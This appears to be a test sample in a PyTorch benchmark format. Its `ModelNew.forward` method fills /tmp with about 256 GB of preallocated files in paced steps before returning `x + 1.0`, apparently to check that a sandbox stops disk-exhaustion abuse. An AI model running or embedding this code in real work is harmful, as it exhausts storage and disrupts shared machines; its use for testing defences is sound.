"""Takes room for files without end: a quarter of a gigabyte at a time, so that there is a time to be stopped at."""

import os
import time

import torch.nn as nn


class ModelNew(nn.Module):
    def forward(self, x):
        for number in range(1 << 10):
            with open(f"/tmp/full{number}", "wb") as file:
                os.posix_fallocate(file.fileno(), 0, 1 << 28)
            time.sleep(0.02)
        return x + 1.0
